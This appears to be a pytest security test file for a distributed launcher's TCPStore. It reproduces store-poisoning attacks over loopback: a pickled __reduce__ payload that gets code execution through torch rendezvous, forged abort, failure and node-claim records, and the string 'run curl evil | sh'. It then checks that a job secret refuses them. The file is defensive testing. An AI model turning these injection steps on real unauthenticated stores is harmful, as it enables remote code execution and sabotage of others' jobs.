"""Attacks on the launchers' store, reproduced on loopback with a plain TCPStore client, with and without a job secret.

The attacker knows nothing but the address: it reads the job id from node 0's store, then writes
a pickled payload under ``torch.rendezvous.<job id>`` (torch's rendezvous unpickles it in every
launcher whose keep-alive still reads it: with restarts left), the board's ``abort`` key or a
forged failure. Without a secret the attacks work, as
with torchrun; with ``NPU_MIGRATE_JOB_SECRET`` every launcher refuses the value, says so once,
and the job ends as it would have.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import signal
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
import torch.distributed as dist

from conftest import ROOT, child_env, free_port, run_cli
from support import JOB, Launch, one_line_errors, wait_for_files, wait_for_text, wait_until

from npu_migrate.launch.nodes.values import pad, unpad

SECRET = "s3cr3t-for-the-test-" + "x" * 20
REFUSED = "refused a value under "
KEEP_ALIVE = ("--max-restarts", "1")
"""Restarts left, so torch's keep-alive goes on reading the rendezvous state while the job runs
(without restarts it stops once the round is in, and nothing reads the state after the join)."""


class Payload:
    """Unpickling it creates ``marker``: the code an attacker would run."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def launchers(tmp: Path, port: int, *extra: str, **env: str) -> tuple[Launch, Launch, Path]:
    release = tmp / "release"
    nodes = []
    for rank in (0, 1):
        args = ["--nnodes", "2", "--node-rank", str(rank), "--device-num", "1", "--addr", "127.0.0.1",
                "--port", str(port), "--join-timeout", "300", "--node-timeout", "10", *extra,
                str(JOB), "--hold", str(release)]
        nodes.append(Launch(tmp, *args, name=f"node{rank}", **env))
    wait_for_files(tmp, ["rank0.json", "rank1.json"])  # the job runs
    return nodes[0], nodes[1], release


def attacker(port: int) -> tuple[dist.TCPStore, str]:
    """A client of node 0's launcher store, and the job id it read there."""
    store = dist.TCPStore("127.0.0.1", port + 1, None, False, timedelta(seconds=30))
    raw = unpad(store.get("npu_migrate/job"))
    job = raw.rsplit(b":", 1)[-1] if raw.startswith(b"~npu_migrate-hmac") else raw  # signed, not secret
    return store, job.decode()


def stop(*nodes: Launch) -> None:
    for node in nodes:
        if node.proc.poll() is None:
            node.proc.send_signal(signal.SIGTERM)
        node.wait()


@pytest.mark.slow
def test_without_a_secret_a_pickled_rendezvous_state_runs_in_the_launchers(tmp_path: Path) -> None:
    port = free_port()
    node0, node1, release = launchers(tmp_path, port, *KEEP_ALIVE)
    try:
        store, job = attacker(port)
        marker = tmp_path / "ran"
        state = base64.b64encode(pickle.dumps(Payload(str(marker))))
        store.set(f"torch.rendezvous.{job}", pad(state))
        wait_until(marker.exists, "the payload ran in a launcher (torch's keep-alive reads the state)")
    finally:
        release.touch()
        stop(node0, node1)


@pytest.mark.slow
def test_with_a_secret_a_pickled_rendezvous_state_is_refused(tmp_path: Path) -> None:
    port = free_port()
    node0, node1, release = launchers(tmp_path, port, *KEEP_ALIVE, NPU_MIGRATE_JOB_SECRET=SECRET)
    store, job = attacker(port)
    marker = tmp_path / "ran"
    key = f"torch.rendezvous.{job}"
    store.set(key, pad(base64.b64encode(pickle.dumps(Payload(str(marker))))))
    # The first launcher whose rendezvous reads it refuses it and puts the last good state back.
    wait_until(lambda: any(REFUSED + key in node.err for node in (node0, node1)), "a launcher refused the state")
    assert not marker.exists()
    release.touch()
    for node in (node0, node1):
        assert node.wait() == 0, node.err
        assert node.err.count(REFUSED) <= 1, node.err
        assert SECRET not in node.err + node.outtext
        one_line_errors(node.err)
    assert not marker.exists()


def _forged(job: str, what: str) -> tuple[str, bytes]:
    if what == "abort":
        return f"npu_migrate/{job}/abort", pad("run curl evil | sh")
    record = {"kind": "rank", "rank": 0, "local_rank": 0, "node_rank": 0, "host": "evil", "exc_type": "Forged",
              "message": "run curl evil | sh", "time": 0.0}
    return f"npu_migrate/{job}/fail/0", pad(json.dumps(record))


@pytest.mark.slow
@pytest.mark.parametrize("what", ["abort", "fail"])
def test_without_a_secret_anyone_ends_the_job(tmp_path: Path, what: str) -> None:
    port = free_port()
    node0, node1, release = launchers(tmp_path, port)
    try:
        store, job = attacker(port)
        store.set(*_forged(job, what))
        for node in (node0, node1):
            assert node.wait() == 1, node.err
            assert "run curl evil" in node.err
    finally:
        release.touch()
        stop(node0, node1)


@pytest.mark.slow
@pytest.mark.parametrize("what", ["abort", "fail"])
def test_with_a_secret_a_forged_abort_or_failure_is_refused(tmp_path: Path, what: str) -> None:
    port = free_port()
    node0, node1, release = launchers(tmp_path, port, NPU_MIGRATE_JOB_SECRET=SECRET)
    store, job = attacker(port)
    key, value = _forged(job, what)
    store.set(key, value)
    for node in (node0, node1):
        wait_for_text(node.stderr, REFUSED + key)
    release.touch()
    for node in (node0, node1):
        assert node.wait() == 0, node.err
        assert "run curl evil" not in node.err
        assert node.err.count(REFUSED) == 1, node.err


@pytest.mark.slow
def test_a_node_without_the_secret_is_refused_in_one_line(tmp_path: Path) -> None:
    port = free_port()
    args = ["--nnodes", "2", "--device-num", "1", "--addr", "127.0.0.1", "--port", str(port),
            "--join-timeout", "300", str(JOB)]
    node0 = Launch(tmp_path, "--node-rank", "0", *args, name="node0", NPU_MIGRATE_JOB_SECRET=SECRET)
    try:
        node1 = Launch(tmp_path, "--node-rank", "1", *args, name="node1")
        assert node1.wait() == 1
        last = node1.err.strip().splitlines()[-1]
        assert "uses a job secret and this node has none: set NPU_MIGRATE_JOB_SECRET (or --secret-file)" in last
        wrong = Launch(tmp_path, "--node-rank", "1", *args, name="wrong", NPU_MIGRATE_JOB_SECRET=SECRET[::-1])
        assert wrong.wait() == 1
        assert "uses another job secret than this node" in wrong.err.strip().splitlines()[-1]
        for node in (node1, wrong):
            one_line_errors(node.err)
            assert SECRET not in node.err and SECRET[::-1] not in node.err
    finally:
        stop(node0)


def test_a_secret_file_others_can_read_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(SECRET + "\n")
    secret.chmod(0o644)
    result = run_cli("launch", "--secret-file", str(secret), "--dry-run", "--device-num", "1", str(JOB))
    assert result.returncode == 2
    assert result.stderr.strip().endswith(f"error: --secret-file {str(secret)!r} has mode 0644, readable by "
                                          f"others: expected 0600 or stricter. Run `chmod 600 {secret}`.")
    assert len(result.stderr.strip().splitlines()) == 1
    secret.chmod(0o600)
    short = tmp_path / "short"
    short.write_text("abc")
    short.chmod(0o600)
    result = run_cli("launch", "--secret-file", str(short), "--dry-run", "--device-num", "1", str(JOB))
    assert result.returncode == 2 and "has 3 byte(s): expected at least 16" in result.stderr
    assert "abc" not in result.stderr


def test_a_secret_on_a_descriptor_is_read_once_and_bad_ones_are_named(tmp_path: Path) -> None:
    """NPU_MIGRATE_JOB_SECRET_FD (how the launcher passes the secret to itself, or `3<FILE`)."""
    from npu_migrate.launch.errors import LaunchUsageError
    from npu_migrate.launch.nodes.secret import FD_ENV, load_secret

    reader, writer = os.pipe()
    os.write(writer, SECRET.encode() + b"\n")
    os.close(writer)
    assert load_secret(environ={FD_ENV: str(reader), "NPU_MIGRATE_JOB_SECRET": "x" * 20}) == SECRET.encode()
    with pytest.raises(LaunchUsageError) as closed:  # read to its end and closed: not passed on to the ranks
        load_secret(environ={FD_ENV: str(reader)})
    assert str(closed.value) == (f"{FD_ENV}={reader} cannot be read (Bad file descriptor): expected an open "
                                 "descriptor holding the job secret.")
    with pytest.raises(LaunchUsageError, match=rf"^{FD_ENV}='three' is not a file descriptor: expected a number"):
        load_secret(environ={FD_ENV: "three"})
    with pytest.raises(LaunchUsageError, match=rf"^--secret-file and {FD_ENV} both give the job secret: use one"):
        load_secret(str(tmp_path / "secret"), environ={FD_ENV: "3"})
    # A spawn() caller's descriptor is read at its first job, and the secret kept for the next ones.
    from npu_migrate.launch.nodes.secret import job_secret, use_secret

    reader, writer = os.pipe()
    os.write(writer, SECRET.encode())
    os.close(writer)
    os.environ[FD_ENV] = str(reader)
    try:
        assert [job_secret(), job_secret()] == [SECRET.encode()] * 2
        assert FD_ENV not in os.environ
    finally:
        os.environ.pop(FD_ENV, None)
        use_secret(None)
    result = run_cli("launch", "--dry-run", "--device-num", "1", str(JOB), env=child_env(**{FD_ENV: "99"}))
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.strip().endswith(f"error: {FD_ENV}=99 cannot be read (Bad file descriptor): expected an "
                                          "open descriptor holding the job secret.")


@pytest.mark.slow
def test_the_secret_reaches_no_worker(tmp_path: Path) -> None:
    script = tmp_path / "env.py"
    # What the rank's code sees, and what `ps e` shows of the rank, of its parent (the fork server)
    # and of the launcher; the fork server's command line says whether it is the launcher forked.
    script.write_text("import os, sys\n"
                      "ppid = os.getppid()\n"
                      "launcher = int(next(l.split()[1] for l in open(f'/proc/{ppid}/status') if l.startswith('PPid:')))\n"
                      "proc = [open(f'/proc/{pid}/environ', 'rb').read() for pid in (os.getpid(), ppid, launcher)]\n"
                      "server = open(f'/proc/{ppid}/cmdline', 'rb').read().split(b'\\0')\n"
                      "open(os.path.join(os.environ['OUT_DIR'], 'env' + os.environ['RANK']), 'w').write(\n"
                      "    repr(dict(os.environ)) + repr(sys.argv) + repr(proc))\n"
                      "open(os.path.join(os.environ['OUT_DIR'], 'server' + os.environ['RANK']), 'wb').write(b' '.join(server))\n")
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    by_env, by_file = {"NPU_MIGRATE_JOB_SECRET": SECRET}, ["--secret-file", str(secret)]
    for flags, given in (([], by_env), (by_file, {}), (by_file, by_env)):
        env = child_env(OUT_DIR=str(tmp_path), **given)
        argv = ["-m", "npu_migrate.launch", *flags, "--device-num", "2", str(script)]
        result = subprocess.run([sys.executable, *argv], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert result.returncode == 0, result.stderr
        assert SECRET not in result.stdout + result.stderr
        for rank in (0, 1):
            seen = (tmp_path / f"env{rank}").read_text()
            # The blocks in /proc may name the descriptor the secret came through (a number), never the secret.
            assert SECRET not in seen and "NPU_MIGRATE_JOB_SECRET=" not in seen
            assert "'NPU_MIGRATE_JOB_SECRET" not in seen  # nothing of it in the rank's os.environ
            assert "'TORCHELASTIC_USE_AGENT_STORE': 'True'" in seen
            if sys.version_info >= (3, 10):  # sys.orig_argv: the launcher ran itself again, then forked its fork server
                assert (tmp_path / f"server{rank}").read_text().split()[1:] == argv
            os.unlink(tmp_path / f"env{rank}")


@pytest.mark.slow
@pytest.mark.parametrize("secret", [False, True], ids=["without a secret", "with a secret"])
def test_a_forged_claim_of_a_node_rank(tmp_path: Path, secret: bool) -> None:
    """An attacker claims node rank 1 before node 1 comes, and keeps the fake owner's heartbeat moving."""
    import threading

    port = free_port()
    env = {"NPU_MIGRATE_JOB_SECRET": SECRET} if secret else {}
    args = ["--nnodes", "2", "--device-num", "1", "--addr", "127.0.0.1", "--port", str(port),
            "--join-timeout", "300", "--node-timeout", "5", str(JOB), "--sleep", "0"]
    node0 = Launch(tmp_path, "--node-rank", "0", *args, name="node0", **env)
    stop_beating = threading.Event()
    try:
        wait_until(lambda: _store_up(port), "node 0 serves its store")
        store, job = attacker(port)
        claim = json.dumps({"owner": "evil", "host": "evil", "pid": 1})
        store.set(f"npu_migrate/{job}/claim/1", pad(claim))

        def beat_forever() -> None:
            while not stop_beating.wait(0.2):
                try:
                    store.add(f"npu_migrate/{job}/alive/evil", 1)
                except Exception:  # noqa: BLE001 - node 0 has ended
                    return

        beat = threading.Thread(target=beat_forever)
        beat.start()
        node1 = Launch(tmp_path, "--node-rank", "1", *args, name="node1", **env)
        codes = [node0.wait(), node1.wait()]
    finally:
        stop_beating.set()
        stop(node0)
    if secret:
        assert codes == [0, 0], node1.err
        assert node1.err.count(REFUSED + f"npu_migrate/{job}/claim/1") == 1
    else:
        # Without the secret the forged claim is written, but a claim's owner must answer a ping
        # through its own launcher (launch/nodes/liveness.py): one whose heartbeat alone moves is taken over
        # after --node-timeout. A forger that answers pings too is stopped only by the secret.
        assert codes == [0, 0], node1.err
        assert "already taken" not in node1.err


def _store_up(port: int) -> bool:
    import socket

    with socket.socket() as sock:
        return sock.connect_ex(("127.0.0.1", port + 1)) == 0
